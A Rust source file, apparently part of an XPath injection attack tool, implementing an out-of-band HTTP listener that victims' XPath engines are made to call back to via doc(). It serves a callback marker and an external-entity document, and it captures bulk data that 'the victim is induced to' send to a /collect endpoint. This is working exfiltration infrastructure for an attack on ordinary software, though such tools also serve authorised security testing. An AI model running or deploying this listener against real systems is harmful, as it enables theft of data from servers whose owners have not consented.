//! Transient out-of-band HTTP listener.
//!
//! Stood up only for the duration of an attack, on all interfaces, so the
//! victim's XPath engine can be made to call back via `doc()`. Three jobs:
//! serve a marker document that proves the callback fired, serve an
//! external-entity document for entity-expansion detection, and capture
//! bulk-transfer payloads on `/collect`.

use axum::extract::{RawQuery, State};
use axum::http::{header, StatusCode, Uri};
use axum::response::IntoResponse;
use axum::routing::get;
use axum::Router;
use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tokio::sync::{oneshot, Notify};
use tokio::task::JoinHandle;
use tracing::{debug, warn};
use uuid::Uuid;

struct OobState {
    test_response_value: String,
    public_base: String,
    visits: Mutex<Vec<String>>,
    collected: Mutex<HashMap<String, Vec<String>>>,
    notify: Notify,
}

/// Handle to the running OOB server. The caller tears it down with
/// [`OobServer::shutdown`]; dropping the handle aborts the serve task as a
/// backstop so no listener outlives the attack.
pub struct OobServer {
    local_addr: SocketAddr,
    state: Arc<OobState>,
    shutdown: Mutex<Option<oneshot::Sender<()>>>,
    task: Mutex<Option<JoinHandle<()>>>,
}

impl OobServer {
    /// Bind on all interfaces. `public_base` is the URL the victim should
    /// use to reach us (from `--oob host:port`), which may differ from the
    /// bind address when NAT is involved.
    pub async fn bind(port: u16, public_base: String) -> crate::error::Result<Self> {
        let listener = tokio::net::TcpListener::bind(("0.0.0.0", port)).await?;
        let local_addr = listener.local_addr()?;

        let state = Arc::new(OobState {
            test_response_value: Uuid::new_v4().simple().to_string(),
            public_base,
            visits: Mutex::new(Vec::new()),
            collected: Mutex::new(HashMap::new()),
            notify: Notify::new(),
        });

        let app = Router::new()
            .route("/test/data", get(test_data))
            .route("/test/entity", get(test_entity))
            .route("/collect", get(collect))
            .fallback(record_visit)
            .with_state(state.clone());

        let (tx, rx) = oneshot::channel::<()>();
        let task = tokio::spawn(async move {
            let result = axum::serve(listener, app)
                .with_graceful_shutdown(async {
                    let _ = rx.await;
                })
                .await;
            if let Err(error) = result {
                warn!(%error, "OOB server terminated abnormally");
            }
        });

        debug!(%local_addr, "OOB server listening");
        Ok(Self {
            local_addr,
            state,
            shutdown: Mutex::new(Some(tx)),
            task: Mutex::new(Some(task)),
        })
    }

    /// The address actually bound (useful when the port was 0)
    pub fn local_addr(&self) -> SocketAddr {
        self.local_addr
    }

    /// The marker value `/test/data` serves; a probe comparing against it
    /// proves the victim fetched our URL
    pub fn test_response_value(&self) -> &str {
        &self.state.test_response_value
    }

    /// A fresh token namespacing one bulk transfer
    pub fn new_token(&self) -> String {
        Uuid::new_v4().simple().to_string()
    }

    /// Payloads captured under `token` so far
    pub fn collected(&self, token: &str) -> Vec<String> {
        self.state
            .collected
            .lock()
            .expect("lock poisoned")
            .get(token)
            .cloned()
            .unwrap_or_default()
    }

    /// Paths the victim visited outside the known routes
    pub fn visits(&self) -> Vec<String> {
        self.state.visits.lock().expect("lock poisoned").clone()
    }

    /// Wait until at least one payload arrives under `token`, or the
    /// timeout elapses. Returns whatever was captured.
    pub async fn wait_for_data(&self, token: &str, timeout: Duration) -> Option<Vec<String>> {
        let deadline = tokio::time::Instant::now() + timeout;
        loop {
            let notified = self.state.notify.notified();
            let captured = self.collected(token);
            if !captured.is_empty() {
                return Some(captured);
            }
            if tokio::time::timeout_at(deadline, notified).await.is_err() {
                let captured = self.collected(token);
                return if captured.is_empty() {
                    None
                } else {
                    Some(captured)
                };
            }
        }
    }

    /// Graceful teardown: stop accepting, then wait for the serve task
    pub async fn shutdown(&self) {
        if let Some(tx) = self.shutdown.lock().expect("lock poisoned").take() {
            let _ = tx.send(());
        }
        let task = self.task.lock().expect("lock poisoned").take();
        if let Some(task) = task {
            let _ = task.await;
        }
    }
}

impl Drop for OobServer {
    fn drop(&mut self) {
        if let Ok(mut task) = self.task.lock() {
            if let Some(task) = task.take() {
                task.abort();
            }
        }
    }
}

async fn test_data(State(state): State<Arc<OobState>>) -> impl IntoResponse {
    (
        [(header::CONTENT_TYPE, "text/xml")],
        format!("<data>{}</data>", state.test_response_value),
    )
}

async fn test_entity(State(state): State<Arc<OobState>>) -> impl IntoResponse {
    let body = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
         <!DOCTYPE data [ <!ENTITY callback SYSTEM \"{}/test/data\"> ]>\n\
         <data>&callback;</data>",
        state.public_base
    );
    ([(header::CONTENT_TYPE, "text/xml")], body)
}

/// Bulk-transfer capture. The victim is induced to fetch
/// `/collect?token=...&data=...`; both values are percent-decoded here and
/// the data is appended under its token.
async fn collect(
    State(state): State<Arc<OobState>>,
    RawQuery(query): RawQuery,
) -> impl IntoResponse {
    let mut token = None;
    let mut data = None;
    for pair in query.unwrap_or_default().split('&') {
        let (key, value) = pair.split_once('=').unwrap_or((pair, ""));
        let decoded = urlencoding::decode(value)
            .map(|v| v.into_owned())
            .unwrap_or_else(|_| value.to_string());
        match key {
            "token" => token = Some(decoded),
            "data" => data = Some(decoded),
            _ => {}
        }
    }

    if let (Some(token), Some(data)) = (token, data) {
        debug!(token = %token, bytes = data.len(), "OOB payload captured");
        state
            .collected
            .lock()
            .expect("lock poisoned")
            .entry(token)
            .or_default()
            .push(data);
        state.notify.notify_waiters();
    }
    ([(header::CONTENT_TYPE, "text/xml")], "<ok/>".to_string())
}

async fn record_visit(State(state): State<Arc<OobState>>, uri: Uri) -> StatusCode {
    state
        .visits
        .lock()
        .expect("lock poisoned")
        .push(uri.path().to_string());
    StatusCode::OK
}
